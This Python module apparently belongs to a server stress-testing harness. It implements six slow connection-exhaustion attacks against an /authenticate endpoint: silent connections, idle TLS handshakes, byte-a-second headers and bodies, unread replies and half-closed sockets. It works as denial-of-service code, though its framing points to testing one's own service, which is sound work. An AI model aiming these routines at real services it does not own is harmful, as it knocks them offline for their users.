"""Connections that are opened and then not used as they should be: silent, drop by drop, or deaf."""

import socket
import ssl
import time

from hold import hold
from lib.caller import body
from target import word_of


def idle_handshakes(target):
    """n connections of a stranger: half say nothing, half send a ClientHello and then nothing."""
    port = target.get("at", target.port)

    def one(number):
        sock = target.dial(port)
        if sock is not None and number % 2:
            target.start_handshake(sock)
        return sock

    hold(target, [sock for number in range(target["n"]) if (sock := one(number))], again=lambda: one(target.n_connections))


def silent(target):
    """n connections of a stranger that say nothing."""
    port = target.get("at", target.port)
    hold(target, [sock for _ in range(target["n"]) if (sock := target.dial(port))], again=lambda: target.dial(port))


def slow_header(target):
    """The header of a request, a byte a second."""
    port = target.get("at", target.port)

    def one():
        sock = target.connect(port)
        if sock is not None:
            target.send(sock, b"POST /authenticate HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        return sock

    hold(target, [sock for _ in range(target["n"]) if (sock := one())], drip=b"a", again=one)


def slow_body(target):
    """The body of a request that is nearly whole, a byte a second."""

    def one():
        sock = target.connect()
        if sock is not None:
            target.send(sock, b"POST /authenticate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 65536\r\n\r\n"
                      + b" " * 60000)
        return sock

    hold(target, [sock for _ in range(target["n"]) if (sock := one())], drip=b" ", again=one)


def unread_replies(target):
    """Asks again and again, and reads no answer."""
    data = target.request(body(target.token))

    def one():
        raw = target.dial()
        if raw is None:
            return None
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock = target.shake_hands(raw)
        if sock is not None:
            sock.setblocking(False)
        return sock

    opened = [sock for _ in range(target["n"]) if (sock := one())]
    while opened and not target.is_over():
        for sock in list(opened):
            try:
                target.n_bytes += sock.send(data * 10)  # no more: a pile at once is another attack
            except (BlockingIOError, ssl.SSLWantWriteError):  # it takes no more
                pass
            except OSError as error:
                opened.remove(sock)
                target.ends[word_of(error)] += 1
                sock.close()
                fresh = None if target.is_over() else one()
                if fresh:
                    opened.append(fresh)
        time.sleep(0.05)
    for sock in opened:
        target.leave(sock, "left open, left")


def half_closed(target):
    """Says all it wants, closes its own half, and keeps the other open: after nothing, half a header, half a body, a whole review."""
    whole = target.request(body(target.token))
    stages = (b"", b"POST /authen", whole[:-20], whole)

    def one(number):
        sock = target.connect() if number % 5 else target.dial()  # also before TLS
        if sock is not None and number % 5:
            target.send(sock, stages[number % 4])
        if sock is not None:
            socket.socket.shutdown(sock, socket.SHUT_WR)
        return sock

    hold(target, [sock for number in range(target["n"]) if (sock := one(number))], again=lambda: one(target.n_connections))


ATTACKS = {"idle-handshakes": idle_handshakes, "silent": silent, "slow-header": slow_header, "slow-body": slow_body,
           "unread-replies": unread_replies, "half-closed": half_closed}
